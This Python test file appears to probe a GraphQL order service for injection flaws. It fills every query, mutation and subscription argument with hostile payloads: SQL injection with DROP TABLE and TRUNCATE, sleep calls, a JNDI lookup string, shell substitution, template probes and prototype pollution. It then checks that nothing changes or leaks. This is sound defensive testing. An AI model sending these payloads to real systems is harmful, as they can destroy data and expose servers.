"""Attack 23: what databases, templates and shells would take for commands, in every text, enum and JSON of the graph.

On HTTP for queries and mutations, on WebSocket for subscriptions. Nothing runs, nothing breaks, and nothing that is
found tells of the inside; wildcards are letters.

Every place gets a command. What the reader of a kind refuses by itself, before anything runs, takes turns from place to
place; `ORDERWIRE_TEST_CANARIES=all` puts everything everywhere.
"""

import asyncio
import json
import os
from typing import Any

import pytest
from sqlalchemy import text

from tests.attacks.door import Door
from tests.attacks.places import Place, document, places, variables
from tests.attacks.test_schemathesis import INTERNALS, complaint
from tests.builders import invariants_hold
from tests.graphql_schema.transport.servers import Client
from tests.unchanged import nothing_changes

COMMANDS = (
    "' OR '1'='1'; DROP TABLE orders CASCADE; select pg_sleep(9); -- "
    '" OR ""=""/*\\\'); TRUNCATE skus; --{{7*7}}${jndi:ldap://x}%s%n$(id)`id`'
)
"""Out of single quotes, then out of double ones, and for what reads templates."""
DOCUMENT = {"$ne": None, "$where": "sleep(9000)", "__proto__": {"admin": True}}
WILDCARDS = "%_" * 480
CANARIES: tuple[object, ...] = (COMMANDS, DOCUMENT, [DOCUMENT], WILDCARDS, "nul\u0000'")
HALF = "half a pair \ud800'"
"""No text at all: over HTTP a bad input, on a socket no message."""
AT_ONCE = 6
TAKING_TURNS: tuple[object, ...] = (DOCUMENT, [DOCUMENT], "nul\u0000'", HALF)
EVERYWHERE = os.environ.get("ORDERWIRE_TEST_CANARIES") == "all"

TABLES = text("SELECT count(*) FROM pg_class WHERE relnamespace = 'public'::regnamespace")
STANDING = text("SELECT (SELECT count(*) FROM orders), (SELECT count(*) FROM customers), (SELECT count(*) FROM events)")


def canaries(place: Place, turn: int) -> tuple[object, ...]:
    """What is put at the place: a text gets commands and wildcards, what a reader takes in first gets commands."""
    if EVERYWHERE or place.kind == "JSON":
        return (*CANARIES, HALF)
    guest = TAKING_TURNS[turn % len(TAKING_TURNS)]
    return (COMMANDS, WILDCARDS, guest) if place.kind == "String" else (COMMANDS, guest)


async def knock(door: Door, visitor: str, place: Place, value: object) -> str | None:
    """One request with the value at the place; what is wrong with its answer."""
    answer = await door.http(visitor, document(place), variables(place, value, door.world))
    what = complaint(answer)
    if what is None and "UNAVAILABLE" in answer.codes:
        what = "it took too long"
    return None if what is None else f"{place} as {visitor} with {value!r}: {what} {answer.raw[:300]!r}"


async def knocks(door: Door, roots: tuple[str, ...], visitors: tuple[str, ...]) -> list[str]:
    gate = asyncio.Semaphore(AT_ONCE)

    async def one(visitor: str, place: Place, value: object) -> str | None:
        async with gate:
            return await knock(door, visitor, place, value)

    tried = [
        one(visitor, place, value)
        for visitor in visitors
        for turn, place in enumerate(places(*roots))
        for value in canaries(place, turn)
    ]
    return [found for found in await asyncio.gather(*tried) if found is not None]


def test_the_places_are_those_of_the_graph() -> None:
    found = {str(place) for place in places("Query", "Mutation", "Subscription")}
    assert len(found) > 200
    assert {
        "Query.orders(filter.search)",
        "Query.orders(sort)",
        "Mutation.orderPlace(input.lines.0.properties)",
        "Mutation.orderAccessRequest(input.number)",
        "Subscription.ordersChanged(filter.skus.0)",
    } <= found


async def test_no_text_of_a_query_is_a_command(door: Door) -> None:
    # Guesses at the codes of gift cards are counted.
    async with nothing_changes(door.served.services.database, but=["attempts"]):
        assert await knocks(door, ("Query",), ("admin", "anonymous")) == []


async def test_no_text_of_a_mutation_is_a_command(door: Door) -> None:
    # given
    database = door.served.services.database
    async with database.session() as session:
        tables, standing = await session.scalar(TABLES), (await session.execute(STANDING)).one()

    # when
    assert await knocks(door, ("Mutation",), ("admin",)) == []

    # then: the house stands, and everything in it is true
    async with database.session() as session:
        assert await session.scalar(TABLES) == tables
        assert all(now >= before for now, before in zip((await session.execute(STANDING)).one(), standing, strict=True))
    await invariants_hold(database)


async def test_no_text_of_a_subscription_is_a_command(door: Door) -> None:
    async with door.socket("admin") as client:
        for number, place in enumerate(places("Subscription")):
            for again, value in enumerate(CANARIES):
                answer = await asked(client, f"{number}-{again}", place, value, door)
                assert INTERNALS.search(json.dumps(answer)) is None, (place, value, answer)
                assert "INTERNAL" not in codes(answer), (place, value, answer)

        # then: the socket is as good as before
        await client.subscribe("good", "subscription { ordersChanged { __typename } }")
        good = (await client.receive())["payload"]
        assert good["data"] == {"ordersChanged": {"__typename": "OrderSnapshot"}}


async def asked(client: Client, key: str, place: Place, value: object, door: Door) -> dict[str, Any]:
    """The first answer to a subscription, which is then ended."""
    payload = {"query": document(place), "variables": variables(place, value, door.world)}
    await client.send({"id": key, "type": "subscribe", "payload": payload})
    while True:
        answer = await client.receive()
        if answer.get("id") == key:
            break
    if answer["type"] == "next":
        await client.send({"id": key, "type": "complete"})
    return answer


def codes(answer: dict[str, Any]) -> list[str]:
    payload = answer.get("payload")
    errors = payload if isinstance(payload, list) else (payload or {}).get("errors", [])
    return [error["extensions"]["code"] for error in errors]


@pytest.mark.parametrize("typed", ["%", "_", "%%", "w_b", "web%", "\\", "%" * 1000])
async def test_wildcards_are_letters(door: Door, typed: str) -> None:
    """And a thousand of them are a text that nothing begins with, or too long a text; no long search."""
    listed = "query ($s: String) { skus(first: 5, search: $s) { edges { node { code } } } }"
    found = "query ($s: String) { orders(first: 5, filter: {search: $s}) { edges { node { number } } } }"
    people = "query ($s: String) { customers(first: 5, search: $s) { edges { node { id } } } }"
    for query, name in ((listed, "skus"), (found, "orders"), (people, "customers")):
        answer = await door.http("admin", query, {"s": typed})
        assert answer.codes in ([], ["BAD_USER_INPUT"], ["COST_EXCEEDED"]), answer.raw
        if not answer.codes:
            assert answer.data[name]["edges"] == []
